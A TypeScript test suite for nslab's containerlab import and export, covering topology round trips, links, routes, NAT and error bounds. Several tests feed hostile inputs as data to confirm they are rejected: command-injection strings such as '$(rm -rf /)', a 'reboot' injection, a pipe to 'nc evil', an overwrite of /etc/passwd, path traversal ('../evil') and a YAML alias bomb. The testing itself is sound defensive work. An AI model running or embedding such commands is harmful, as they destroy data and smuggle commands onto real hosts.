import fs from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { isError } from '../issues.js';
import { parseTopology } from '../parseTopology.js';
import type { Topology } from '../schema.js';
import { BRIDGE_CLIENTS, HOST_LINKS, ROUTER } from './clab.cases.js';
import { exportClab, importClab } from './index.js';

const repo = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../../../..');

/** A lab with its keys sorted and its links (and their ends) in one order: what "the same lab" compares. */
function canonical(t: Topology): unknown {
  const sorted = (v: unknown): unknown =>
    Array.isArray(v)
      ? v.map(sorted)
      : v && typeof v === 'object'
        ? Object.fromEntries(
            Object.keys(v)
              .sort()
              .map((k) => [k, sorted((v as Record<string, unknown>)[k])]),
          )
        : v;
  const byText = (a: unknown, b: unknown) => (JSON.stringify(a) < JSON.stringify(b) ? -1 : 1);
  const c = sorted(t) as Topology;
  return { ...c, links: c.links.map((l) => ({ ...l, endpoints: [...l.endpoints].sort(byText) })).sort(byText) };
}

function imported(text: string, opts = {}) {
  const r = importClab(text, opts);
  expect(r.errors).toEqual([]);
  expect(r.issues.filter((i) => i.severity !== 'warning')).toEqual([]);
  return { ...r, t: r.topology! };
}

const paths = (notes: Array<{ path: string }>) => notes.map((n) => n.path);

describe('export then import gives back the same lab', () => {
  const dir = path.join(repo, 'labs');
  const files = [
    ...fs.readdirSync(dir).filter((f) => f.endsWith('.yaml')),
    ...fs
      .readdirSync(path.join(dir, 'exercises'))
      .filter((f) => f.endsWith('.yaml'))
      .map((f) => `exercises/${f}`),
  ];

  it.each(files)('%s', (file) => {
    const t = parseTopology(fs.readFileSync(path.join(dir, file), 'utf8')).topology!;
    const out = exportClab(t);
    expect(out.warnings).toEqual([]);
    const back = importClab(out.yaml);
    expect(back.errors).toEqual([]);
    // The only warning: the image, which nslab does not run.
    expect(paths(back.warnings)).toEqual(['topology.kinds.linux.image']);
    expect(canonical(back.topology!)).toEqual(canonical(t));
  });

  it.each(files)('%s exports as containerlab accepts it', (file) => {
    const t = parseTopology(fs.readFileSync(path.join(dir, file), 'utf8')).topology!;
    const clab = parse(exportClab(t).yaml) as {
      topology: { nodes: Record<string, { kind: string; 'network-mode'?: string }>; links: Array<{ endpoints?: string[]; mtu?: number }> };
    };
    const nodes = clab.topology.nodes;
    for (const [name, n] of Object.entries(nodes)) {
      expect(['host', 'macvlan', 'mgmt-net'], name).not.toContain(n['network-mode'] === 'host' ? '' : name);
      // A linux node not in the host's network has no management eth0: the lab's eth0 and default routes are its own.
      if (n.kind === 'linux') expect(n['network-mode'], name).toMatch(/^(none|host)$/);
    }
    for (const l of clab.topology.links.filter((x) => x.endpoints)) {
      expect(l.mtu).toBe(1500);
      for (const e of l.endpoints!) {
        const node = e.split(':')[0]!;
        expect(node === 'host' || Object.hasOwn(nodes, node), `${e} names a node of the file`).toBe(true);
      }
    }
  });

  it('carries positions, labels, impairments, downed links, STP, MTU and MAC', () => {
    const t = parseTopology(`
name: extras
nodes:
  a: { kind: netns, position: { x: 10, y: 20 }, label: "client" }
  b: { kind: netns }
  br0: { kind: bridge, stp: true, addresses: [10.9.0.1/24] }
links:
  - endpoints:
      - { node: a, name: eth1, addresses: [10.9.0.2/24], mtu: 1400, mac: "02:00:00:00:00:0a" }
      - { node: br0, name: p-a }
    impair: { delay: 50ms, jitter: 5ms, loss: 2% }
    label: uplink
  - endpoints:
      - { node: b, name: eth1, addresses: [10.9.0.3/24], impair: { rate: 10mbit } }
      - { node: br0, name: p-b }
    up: false
`).topology!;
    const back = importClab(exportClab(t).yaml);
    expect(back.errors).toEqual([]);
    expect(canonical(back.topology!)).toEqual(canonical(t));
  });

  it('says what it cannot carry', () => {
    const t = parseTopology(`
name: hostmv
nodes:
  host: { kind: host, macvlans: [{ name: mv0, parent: eth0 }] }
`).topology!;
    expect(exportClab(t).warnings).toEqual([expect.stringMatching(/^macvlans of the host node: .*left out/)]);
  });

  it('a bridge placed in the host node, and a namespace named like a containerlab link type', () => {
    const inHost = parseTopology(`
name: brhost
nodes:
  gw: { kind: host }
  br0: { kind: bridge, netns: gw, addresses: [10.9.1.1/24] }
  a: { kind: netns }
links:
  - endpoints: [{ node: a, name: eth0, addresses: [10.9.1.2/24] }, { node: br0, name: p-a }]
`).topology!;
    const back = importClab(exportClab(inHost).yaml);
    expect(back.errors).toEqual([]);
    expect(back.topology!.links[0]!.endpoints[1]).toEqual({ node: 'br0', name: 'p-a' });
    expect(back.topology!.nodes.br0).toEqual({ kind: 'bridge', addresses: ['10.9.1.1/24'] });

    const named = parseTopology(`
name: named
nodes:
  host: { kind: netns }
  br0: { kind: bridge, addresses: [10.9.2.1/24] }
links:
  - endpoints: [{ node: host, name: eth0, addresses: [10.9.2.2/24] }, { node: br0, name: p-h }]
`).topology!;
    const out = exportClab(named);
    expect(out.warnings).toEqual([expect.stringMatching(/^node host: containerlab reads "host:IF" as a link type/)]);
    // The host's lines (the bridge's address) are not dropped: they go to a node of their own.
    expect(parse(out.yaml).topology.nodes['host-net']).toEqual({
      kind: 'linux',
      'network-mode': 'host',
      exec: ['ip addr add 10.9.2.1/24 dev br0'],
    });
  });

  it('a link whose ends agree on an MTU carries it; no exec line repeats it', () => {
    const t = parseTopology(`
name: jumbo
nodes:
  a: { kind: netns }
  b: { kind: netns }
links:
  - endpoints: [{ node: a, name: eth1, mtu: 9500 }, { node: b, name: eth1, mtu: 9500 }]
`).topology!;
    const clab = parse(exportClab(t).yaml);
    expect(clab.topology.links).toEqual([{ endpoints: ['a:eth1', 'b:eth1'], mtu: 9500 }]);
    expect(clab.topology.nodes.a).toEqual({ kind: 'linux', 'network-mode': 'none' });
    expect(canonical(importClab(exportClab(t).yaml).topology!)).toEqual(canonical(t));
  });

  it('warns of text containerlab would read as a template', () => {
    const t = parseTopology('name: x\ndescription: "uses {{ .Name }}"\nnodes:\n  a: { kind: netns }\n').topology!;
    expect(exportClab(t).warnings).toEqual([expect.stringMatching(/template/)]);
  });

  it('writes a small default image, or the one asked for', () => {
    const t = parseTopology('name: x\nnodes:\n  a: { kind: netns }\n').topology!;
    expect(exportClab(t).yaml).toContain('image: ghcr.io/srl-labs/network-multitool');
    expect(exportClab(t, { image: 'alpine:3.20' }).yaml).toContain('image: alpine:3.20');
    // An image (from --image) is a string of the file, whatever it holds: never a key of its own.
    const hostile = 'x\n      network-mode: host\n# {{ .Evil }}: "';
    expect(parse(exportClab(t, { image: hostile }).yaml).topology.kinds).toEqual({ linux: { image: hostile } });
  });
});

describe('real-world-shaped containerlab files', () => {
  const mtu = 9500; // containerlab's, for a link that names none
  it('a router between two links: exec lines become addresses, routes and sysctls; links get containerlab\u2019s MTU', () => {
    const { t, warnings } = imported(ROUTER);
    expect(paths(warnings)).toEqual(['topology.kinds.linux.image']);
    expect(t.name).toBe('clab15-router');
    expect(Object.keys(t.nodes)).toEqual(['client1', 'router', 'client2']);
    expect(t.nodes.router).toEqual({ kind: 'netns', sysctls: { 'net.ipv4.ip_forward': 1 } });
    expect(t.nodes.client1).toEqual({ kind: 'netns', routes: [{ to: '10.250.2.0/24', via: '10.250.1.1' }] });
    expect(t.nodes.client2).toEqual({ kind: 'netns', routes: [{ to: 'default', via: '10.250.2.1' }] });
    expect(t.links).toEqual([
      {
        endpoints: [
          { node: 'client1', name: 'eth1', addresses: ['10.250.1.2/24'], mtu },
          { node: 'router', name: 'eth1', addresses: ['10.250.1.1/24'], mtu },
        ],
      },
      {
        endpoints: [
          { node: 'router', name: 'eth2', addresses: ['10.250.2.1/24'], mtu },
          { node: 'client2', name: 'eth1', addresses: ['10.250.2.2/24'], mtu },
        ],
      },
    ]);
  });

  it('clients on a bridge, with kind defaults, a group and topology defaults merged as containerlab does', () => {
    const { t, warnings } = imported(BRIDGE_CLIENTS);
    expect(t.nodes.cl15br).toEqual({ kind: 'bridge' });
    expect(t.nodes.c1).toEqual({
      kind: 'netns',
      routes: [{ to: 'default', via: '10.250.3.1' }],
      sysctls: { 'net.ipv6.conf.all.disable_ipv6': 1 },
    });
    expect(t.nodes.gw).toEqual({ kind: 'netns', sysctls: { 'net.ipv6.conf.all.disable_ipv6': 1 } });
    expect(t.links[1]!.endpoints).toEqual([
      { node: 'c1', name: 'eth1', addresses: ['10.250.3.11/24'], mtu },
      { node: 'cl15br', name: 'cl15-c1', mtu },
    ]);
    // One warning per place, not per node.
    expect(paths(warnings).sort()).toEqual(['mgmt', 'topology.kinds.linux.binds', 'topology.kinds.linux.image']);
    expect(warnings.find((w) => w.path === 'mgmt')!.line).toBe(3);
    expect(warnings.find((w) => w.path === 'topology.kinds.linux.binds')!.line).toBe(12);
  });

  it('host endpoints, in the brief and the extended format, are host interfaces; a host-network node sets the host', () => {
    const { t } = imported(HOST_LINKS);
    expect(t.nodes.hostcfg).toEqual({ kind: 'host' });
    expect(t.nodes.host).toBeUndefined();
    expect(t.links.map((l) => l.endpoints.map((e) => `${e.node}:${e.name}:${e.addresses?.join(',')}`))).toEqual([
      ['srv:eth1:10.250.4.2/30', 'hostcfg:cl15-srv:10.250.4.1/30'],
      ['srv:eth2:10.250.4.6/30', 'hostcfg:cl15-srv2:10.250.4.5/30'],
    ]);
  });

  it('extended veth links carry MACs, MTU and endpoint addresses', () => {
    const { t } = imported(`
name: ext
topology:
  nodes:
    a: { kind: linux }
    b: { kind: linux }
  links:
    - type: veth
      mtu: 9000
      endpoints:
        - { node: a, interface: e1, mac: "02:00:00:00:01:01", ipv4: 10.40.0.1/24, ipv6: "fd00:40::1/64" }
        - { node: b, interface: e1, ipv4: 10.40.0.2/24 }
`);
    expect(t.links[0]!.endpoints).toEqual([
      { node: 'a', name: 'e1', addresses: ['10.40.0.1/24', 'fd00:40::1/64'], mac: '02:00:00:00:01:01', mtu: 9000 },
      { node: 'b', name: 'e1', addresses: ['10.40.0.2/24'], mtu: 9000 },
    ]);
  });

  it('macvlan links become the node\u2019s macvlans on the host interface', () => {
    const { t } = imported(`
name: mv
topology:
  nodes:
    a: { kind: linux, exec: ["ip addr add 10.41.0.5/24 dev eth1"] }
    b: { kind: linux }
  links:
    - endpoints: ["a:eth1", "macvlan:enp0s3"]
    - type: macvlan
      endpoint: { node: b, interface: eth1 }
      host-interface: enp0s3
      mode: private
`);
    expect(t.nodes.a).toEqual({ kind: 'netns', macvlans: [{ name: 'eth1', parent: 'enp0s3', addresses: ['10.41.0.5/24'] }] });
    expect(t.nodes.b).toEqual({ kind: 'netns', macvlans: [{ name: 'eth1', parent: 'enp0s3', mode: 'private' }] });
  });

  it('sh -c lines are split into their commands; pings become checks; iptables rules are read', () => {
    const { t, warnings } = imported(`
name: shc
topology:
  nodes:
    gw:
      kind: linux
      exec:
        - sh -c "ip addr add 10.42.0.1/24 dev eth1 && sysctl -w net.ipv4.ip_forward=1; iptables -t nat -A POSTROUTING -s 10.42.0.0/24 -o eth2 -j MASQUERADE"
    pc:
      kind: linux
      exec:
        - ip addr add 10.42.0.2/24 dev eth1
        - ping -c 1 10.42.0.1
        - apk add tcpdump
  links:
    - endpoints: ["gw:eth1", "pc:eth1"]
    - endpoints: ["gw:eth2", "host:gw-up"]
`);
    expect(t.nodes.gw).toEqual({
      kind: 'netns',
      sysctls: { 'net.ipv4.ip_forward': 1 },
      nat: [{ type: 'masquerade', source: '10.42.0.0/24', outInterface: 'eth2' }],
    });
    expect(t.checks).toEqual([{ from: 'pc', ping: '10.42.0.1', expect: 'reachable' }]);
    expect(warnings).toEqual([{ path: 'topology.nodes.pc.exec[2]', line: 14, message: expect.stringMatching(/apk/) }]);
  });

  it('a network OS kind is an empty namespace, with a warning at its kind; its startup config is a warning too', () => {
    const { t, warnings } = imported(`
name: srl
topology:
  nodes:
    leaf1: { kind: nokia_srlinux, image: ghcr.io/nokia/srlinux, startup-config: leaf1.cfg }
    h1: { kind: linux }
  links:
    - endpoints: ["leaf1:e1-1", "h1:eth1"]
`);
    expect(t.nodes.leaf1).toEqual({ kind: 'netns' });
    expect(paths(warnings)).toEqual(['topology.nodes.leaf1.kind', 'topology.nodes.leaf1.image', 'topology.nodes.leaf1.startup-config']);
    expect(warnings[0]!.message).toMatch(/nokia_srlinux .*empty Linux namespace/);
    expect(warnings.every((w) => w.line === 5)).toBe(true);
  });

  it('links it cannot make are warnings at their path; the rest of the lab is built', () => {
    const { t, warnings } = imported(`
name: skips
topology:
  nodes:
    a: { kind: linux, ports: ["8080:80"], mgmt-ipv4: 172.20.20.5 }
    b: { kind: linux }
  links:
    - endpoints: ["a:eth1", "b:eth1"]
    - endpoints: ["a:eth9", "mgmt-net:a-eth9"]
    - type: vxlan
      endpoint: { node: a, interface: vx1 }
      remote: 10.0.0.9
      vni: 100
    - type: dummy
      endpoint: { node: b, interface: dummy0 }
`);
    expect(t.links).toHaveLength(1);
    expect(paths(warnings)).toEqual([
      'topology.nodes.a.ports',
      'topology.nodes.a.mgmt-ipv4',
      'topology.links[1]',
      'topology.links[2]',
      'topology.links[2].remote',
      'topology.links[2].vni',
      'topology.links[3]',
    ]);
    expect(warnings[0]!.message).toMatch(/dnat/);
  });

  it('inherits as containerlab does: a group from the kind, a kind from the defaults\u2019 group, exec lines once each, sysctls before exec', () => {
    const { t } = imported(`
name: inherit
topology:
  defaults:
    group: base
    exec: ["sysctl -w net.ipv4.ip_forward=0", "ip route add 10.60.0.0/16 via 10.61.0.1"]
  groups:
    base: { kind: linux }
    routers: { exec: ["ip route add 10.60.0.0/16 via 10.61.0.1"] }
  kinds:
    linux: { group: routers }
  nodes:
    r1: { sysctls: { net.ipv4.ip_forward: 1 }, exec: ["ip addr add 10.61.0.2/24 dev eth1"] }
    r2: { kind: linux, exec: ["ip addr add 10.61.0.3/24 dev eth1"] }
  links:
    - endpoints: ["r1:eth1", "r2:eth1"]
`);
    // r1's kind comes from the defaults' group; its group from its kind; the route is there once;
    // the sysctl is set as the container is made, so the defaults' exec line (0) has the last word.
    expect(t.nodes.r1).toEqual({
      kind: 'netns',
      routes: [{ to: '10.60.0.0/16', via: '10.61.0.1' }],
      sysctls: { 'net.ipv4.ip_forward': 0 },
    });
    expect(t.links[0]!.endpoints[0]!.addresses).toEqual(['10.61.0.2/24']);
  });

  it('reads merge keys, and a brief link\u2019s addresses; MTU 1500 is the kernel\u2019s own', () => {
    const { t } = imported(`
name: merged
x-common: &common
  kind: linux
  exec: ["ip route add 10.70.0.0/16 via 10.62.0.1"]
topology:
  nodes:
    a: { <<: *common }
    b:
      <<: *common
  links:
    - endpoints: ["a:eth1", "b:eth1"]
      ipv4: [10.62.0.2/24, 10.62.0.3/24]
      ipv6: ["", "fd00:62::3/64"]
      mtu: 1500
`);
    expect(t.nodes.a).toEqual({ kind: 'netns', routes: [{ to: '10.70.0.0/16', via: '10.62.0.1' }] });
    expect(t.nodes.b).toEqual(t.nodes.a);
    expect(t.links[0]!.endpoints).toEqual([
      { node: 'a', name: 'eth1', addresses: ['10.62.0.2/24'] },
      { node: 'b', name: 'eth1', addresses: ['10.62.0.3/24', 'fd00:62::3/64'] },
    ]);
  });

  it('an exec line that acts in another namespace runs inside its container in containerlab: a warning, left out', () => {
    const { t, warnings } = imported(`
name: outside
topology:
  nodes:
    a:
      kind: linux
      exec:
        - ip netns add c
        - ip -n b route add default via 10.63.0.1
        - ip netns exec b ip addr add 10.63.0.9/24 dev eth1
        - ip link add x type veth peer name y netns 1
        - ip link set eth1 netns 1
        - nsenter --net=/run/netns/b ip addr
        - ip addr add 10.63.0.2/24 dev eth1
    b: { kind: linux }
  links:
    - endpoints: ["a:eth1", "b:eth1"]
`);
    expect(Object.keys(t.nodes)).toEqual(['a', 'b']);
    expect(t.nodes.b).toEqual({ kind: 'netns' });
    expect(t.links[0]!.endpoints.map((e) => e.addresses)).toEqual([['10.63.0.2/24'], undefined]);
    expect(paths(warnings)).toEqual([0, 1, 2, 3, 4, 5].map((i) => `topology.nodes.a.exec[${i}]`));
    expect(warnings.every((w) => /runs inside container a; left out$/.test(w.message))).toBe(true);
  });

  it('keys named like Object\u2019s own are data: a field "constructor", a group "__proto__"', () => {
    const { t, warnings } = imported(
      'name: proto\ntopology:\n  nodes:\n    a: { kind: linux, group: __proto__, constructor: 1, toString: x }\n',
    );
    expect(t.nodes.a).toEqual({ kind: 'netns' });
    expect(warnings.map((w) => w.message)).toEqual([
      'constructor: not part of an nslab lab; left out',
      'toString: not part of an nslab lab; left out',
    ]);
  });

  it('warns that containerlab would expand {{ templates }} and ${VARIABLES} the file holds', () => {
    const { warnings } = imported('name: tpl\ntopology:\n  nodes:\n    a: { kind: linux, exec: ["ip addr add ${ADDR} dev eth1"] }\n');
    expect(warnings[0]).toEqual({ path: '', line: 0, message: expect.stringMatching(/templates.*VARIABLES/) });
  });

  it('network OS interface names are the Linux names containerlab gives them; "ip addr add dev IF ADDR" is read too', () => {
    const { t, warnings } = imported(`
name: nos
topology:
  nodes:
    srl: { kind: nokia_srlinux }
    sros: { kind: nokia_srsim }
    h1: { kind: linux, exec: ["ip addr add dev eth1 10.64.0.2/24"] }
    h2: { kind: linux }
  links:
    - endpoints: ["srl:ethernet-1/1", "h1:eth1"]
    - endpoints: ["sros:1/1/c1/1", "h2:eth1"]
    - endpoints: ["sros:1/1/c2/1", "sros:1/1/c2/2"]
`);
    expect(t.links).toHaveLength(2);
    expect(warnings.find((w) => w.path === 'topology.links[2]')!.message).toBe(
      'both ends are on node sros: an nslab link joins two nodes; left out',
    );
    expect(t.links.map((l) => l.endpoints[0].name)).toEqual(['e1-1', 'e1-1-c1-1']);
    expect(t.links[0]!.endpoints[1]!.addresses).toEqual(['10.64.0.2/24']);
    expect(
      warnings.filter((w) => /in Linux/.test(w.message) && !w.path.startsWith('topology.links[2]')).map((w) => `${w.path}: ${w.message}`),
    ).toEqual([
      'topology.links[0].endpoints[0]: interface ethernet-1/1 is e1-1 in Linux, as containerlab names it',
      'topology.links[1].endpoints[0]: interface 1/1/c1/1 is e1-1-c1-1 in Linux, as containerlab names it',
    ]);
  });

  it('from a walk: what a containerlab user writes that means nothing here is said, or left out quietly when it is Docker\u2019s', () => {
    const { t, warnings, issues } = imported(
      `
name: walk
x-anchors: &a { kind: linux }
topology:
  nodes:
    w1:
      <<: *a
      exec:
        - ip route del default
        - ip addr add 10.66.0.1/24 dev eth1
        - ping -c1 10.66.0.2
        - ping -c1 10.99.0.9
        - iptables -t nat -A POSTROUTING -o eth0 -j MASQUERADE
    w2: { kind: linux, exec: ["ip addr add 10.66.0.2/24 dev eth1"] }
    w15pre: { kind: bridge }
    w3: { kind: linux, exec: ["ip addr add 10.67.0.1/24 dev eth0", "ip route add default via 10.67.0.254"] }
  links:
    - endpoints: ["w1:eth1", "w2:eth1"]
      ipv4: [10.66.0.1/24, ""]
    - endpoints: ["w3:eth0", "w15pre:p3"]
`,
      { host: { interfaces: ['lo', 'w15pre'] } },
    );
    // The address given twice (the link's, an exec line's) is one; the ping inside the lab is a check.
    expect(t.links[0]!.endpoints[0]!.addresses).toEqual(['10.66.0.1/24']);
    expect(t.checks).toEqual([{ from: 'w1', ping: '10.66.0.2', expect: 'reachable' }]);
    expect(t.nodes.w1).toEqual({ kind: 'netns' });
    // w3's eth0 is a link of the lab: its lines stand.
    expect(t.nodes.w3).toEqual({ kind: 'netns', routes: [{ to: 'default', via: '10.67.0.254' }] });
    expect(issues).toEqual([]);
    expect(warnings.map((w) => `${w.line} ${w.path}: ${w.message}`)).toEqual([
      '12 topology.nodes.w1.exec[3]: ping 10.99.0.9: not an address of this lab, so no check is made of it',
      '13 topology.nodes.w1.exec[4]: eth0 is containerlab\u2019s management interface, which an nslab lab does not have: left out',
      expect.stringMatching(/^15 topology.nodes.w15pre: w15pre already exists on this host .*ip link del w15pre/),
    ]);
  });

  it('the lab\u2019s own problems name the node of the file they come from', () => {
    const r = importClab(
      'name: bad\ntopology:\n  nodes:\n    b1:\n      kind: linux\n      exec: ["ip route add default via 10.68.0.1"]\n',
    );
    expect(r.issues.map((i) => i.message)).toEqual([
      expect.stringMatching(/10\.68\.0\.1.*\(from topology\.nodes\.b1, line 4, and its exec lines\)$/),
    ]);
  });

  it('an nslab lab given as a containerlab file, and a containerlab file given as a lab, each say which to use', () => {
    expect(importClab('name: x\nnodes:\n  a: { kind: netns }\n').errors[0]!.message).toMatch(
      /an nslab lab, not a containerlab file: open it with Labs → Upload lab/,
    );
    expect(parseTopology('name: x\ntopology:\n  nodes: {}\n').issues).toEqual([
      { code: 'input.containerlab', path: ['topology'], message: expect.stringMatching(/containerlab topology.*nslab import-clab FILE/) },
    ]);
  });

  it('a name containerlab allows and nslab does not is made a lab name, with a warning; --name wins', () => {
    const text = 'name: My_Lab 2024\ntopology:\n  nodes:\n    a: { kind: linux }\n';
    const r = imported(text);
    expect(r.t.name).toBe('my-lab-2024');
    expect(r.warnings).toEqual([{ path: 'name', line: 1, message: expect.stringMatching(/named my-lab-2024/) }]);
    expect(imported(text, { name: 'mine' }).t.name).toBe('mine');
    expect(importClab(text, { name: '../Evil' }).errors).toEqual([{ path: '', line: 0, message: expect.stringMatching(/not a lab name/) }]);
  });

  it('a leading comment that is not an nslab export is ignored; a broken nslab block is a warning', () => {
    expect(imported('# my lab\nname: c\ntopology:\n  nodes:\n    a: { kind: linux }\n').warnings).toEqual([]);
    const broken = imported(
      '# nslab (read back by nslab import-clab; containerlab ignores comments):\n#   checks: [\nname: c\ntopology:\n  nodes:\n    a: { kind: linux }\n',
    );
    expect(broken.warnings.map((w) => w.message)).toEqual([expect.stringMatching(/nslab part of the leading comment cannot be read/)]);
    const deep = imported(
      `# nslab (read back by nslab import-clab; containerlab ignores comments):\n#   checks: ${'['.repeat(200)}\nname: c\ntopology:\n  nodes:\n    a: { kind: linux }\n`,
    );
    expect(deep.warnings.map((w) => w.message)).toEqual([expect.stringMatching(/cannot be read/)]);
  });

  it('a hostile prefix or check in the nslab block is an error of the lab, as in any lab file: it never reaches a deploy valid', () => {
    const r = importClab(
      '# nslab (read back by nslab import-clab; containerlab ignores comments):\n#   prefix: "$(reboot)/../"\n#   checks: [{ from: a, ping: "1.2.3.4; reboot" }]\nname: c\ntopology:\n  nodes:\n    a: { kind: linux }\n',
    );
    const errors = r.issues.filter(isError).map((i) => i.path.join('.'));
    expect(errors).toEqual(['prefix', 'checks.0.ping']);
    expect(parseTopology(r.yaml).ok).toBe(false);
  });
});

describe('what is not a containerlab topology is an error naming where, and builds nothing', () => {
  const err = (text: string) => {
    const r = importClab(text);
    expect(r.topology).toBeUndefined();
    expect(r.yaml).toBe('');
    return r.errors.map((e) => `${e.line} ${e.path}: ${e.message}`);
  };

  it.each([
    ['not YAML', 'name: x\ntopology: [\n', /^\d+ : /],
    ['not a mapping', '- a\n- b\n', /^0 : expected a mapping/],
    ['no topology', 'name: x\n', /^0 topology: missing/],
    ['no nodes', 'name: x\ntopology:\n  links: []\n', /^2 topology.nodes: missing/],
    ['links not a list', 'name: x\ntopology:\n  nodes: { a: { kind: linux } }\n  links: { a: 1 }\n', /^4 topology.links: expected a list/],
    ['a node without a kind', 'name: x\ntopology:\n  nodes:\n    a: { image: alpine }\n', /^4 topology.nodes.a: no kind/],
    ['a node that is not a mapping', 'name: x\ntopology:\n  nodes:\n    a: [1]\n', /^4 topology.nodes.a: expected a mapping/],
    [
      'a node name nslab cannot use',
      'name: x\ntopology:\n  nodes:\n    "../evil": { kind: linux }\n',
      /^4 topology.nodes.\.\.\/evil: "\.\.\/evil" cannot name/,
    ],
    ['a linux node named host', 'name: x\ntopology:\n  nodes:\n    host: { kind: linux }\n', /names a link type/],
    [
      'an endpoint on a node that is not there',
      'name: x\ntopology:\n  nodes:\n    a: { kind: linux }\n  links:\n    - endpoints: ["a:eth1", "b:eth1"]\n',
      /^6 topology.links\[0\].endpoints\[1\]: no node "b"/,
    ],
    [
      'an endpoint without an interface',
      'name: x\ntopology:\n  nodes:\n    a: { kind: linux }\n    b: { kind: linux }\n  links:\n    - endpoints: ["a", "b:eth1"]\n',
      /^7 topology.links\[0\].endpoints\[0\]: "a": expected "node:interface"/,
    ],
    [
      'three endpoints',
      'name: x\ntopology:\n  nodes: { a: { kind: linux } }\n  links:\n    - endpoints: ["a:1", "a:2", "a:3"]\n',
      /expected two endpoints/,
    ],
  ])('%s', (_what, text, pattern) => {
    const errors = err(text);
    expect(errors.length).toBeGreaterThan(0);
    expect(errors[0]).toMatch(pattern);
  });

  it('refuses an alias bomb, a file over the size limit and one nested too deep', () => {
    const bomb = ['a: &a [x, x, x, x, x, x, x, x, x, x]'];
    for (let i = 0; i < 8; i++)
      bomb.push(
        `${String.fromCharCode(98 + i)}: &${String.fromCharCode(98 + i)} [*${String.fromCharCode(97 + i)}, *${String.fromCharCode(97 + i)}, *${String.fromCharCode(97 + i)}, *${String.fromCharCode(97 + i)}, *${String.fromCharCode(97 + i)}, *${String.fromCharCode(97 + i)}, *${String.fromCharCode(97 + i)}, *${String.fromCharCode(97 + i)}, *${String.fromCharCode(97 + i)}, *${String.fromCharCode(97 + i)}]`,
      );
    expect(err(`${bomb.join('\n')}\ntopology: { nodes: { a: { kind: linux } } }\n`)[0]).toMatch(/aliases/);
    expect(err(`name: x\n# ${'x'.repeat(1024 * 1024)}\n`)[0]).toMatch(/bytes/);
    expect(err(`name: ${'['.repeat(100)}${']'.repeat(100)}\n`)[0]).toMatch(/nested/);
  });

  it('a megabyte of spaces in an sh -c line, and two thousand nodes with unknown fields, give a bounded reply', () => {
    const spaces = importClab(
      `name: x\ntopology:\n  nodes:\n    a:\n      kind: linux\n      exec: ["sh -c '${' '.repeat(1_000_000)}x'"]\n`,
    );
    expect(spaces.errors).toEqual([]);
    expect(spaces.warnings.map((w) => w.path)).toEqual(['topology.nodes.a.exec[0]']);
    const many = Array.from({ length: 2000 }, (_, i) => `    n${i}: { kind: linux, image: a, binds: [b], env: { c: d } }`).join('\n');
    const r = importClab(`name: x\ntopology:\n  nodes:\n${many}\n`);
    expect(r.errors).toEqual([]);
    expect(r.warnings).toHaveLength(201);
    expect(r.warnings.at(-1)!.message).toBe('and 5800 more warnings');
    expect(Object.keys(r.topology!.nodes)).toHaveLength(2000);
  });

  it('exec lines a kind gives every node are counted for each node: past the bound, an error at the list that does it', () => {
    const lines = Array.from({ length: 2000 }, (_, i) => `      - ip route add 10.${i >> 8}.${i & 255}.0/24 via 10.0.0.1`).join('\n');
    const nodes = Array.from({ length: 1000 }, (_, i) => `    n${i}: {}`).join('\n');
    const r = importClab(
      `name: x\ntopology:\n  defaults:\n    kind: linux\n  kinds:\n    linux:\n      exec:\n${lines}\n  nodes:\n${nodes}\n`,
    );
    expect(r.topology).toBeUndefined();
    expect(r.errors).toEqual([
      { path: 'topology.kinds.linux.exec', line: 7, message: expect.stringMatching(/more than 20000 exec lines/) },
    ]);
  });

  it('netem and STP lines count toward the bound too', () => {
    const lines = Array.from({ length: 2000 }, (_, i) => `      - tc qdisc add dev eth${i} root netem delay ${i}ms`).join('\n');
    const nodes = Array.from({ length: 1000 }, (_, i) => `    n${i}: {}`).join('\n');
    const r = importClab(`name: x\ntopology:\n  defaults:\n    kind: linux\n    exec:\n${lines}\n  nodes:\n${nodes}\n`);
    expect(r.errors).toEqual([{ path: 'topology.defaults.exec', line: 5, message: expect.stringMatching(/more than 20000/) }]);
  });

  it('shell syntax in exec lines is only a warning, and none of it reaches the lab', () => {
    const r = imported(`
name: hostile
topology:
  nodes:
    a:
      kind: linux
      exec:
        - "$(rm -rf /) ; \`reboot\` | nc evil 1 > /etc/passwd"
        - "ip addr add 10.43.0.1/24 dev eth1; rm -rf /"
  links:
    - endpoints: ["a:eth1", "host:a-up"]
`);
    expect(r.warnings.length).toBeGreaterThan(0);
    expect(r.warnings.every((w) => w.path.startsWith('topology.nodes.a.exec['))).toBe(true);
    expect(r.yaml).not.toMatch(/rm -rf|reboot|passwd/);
  });
});
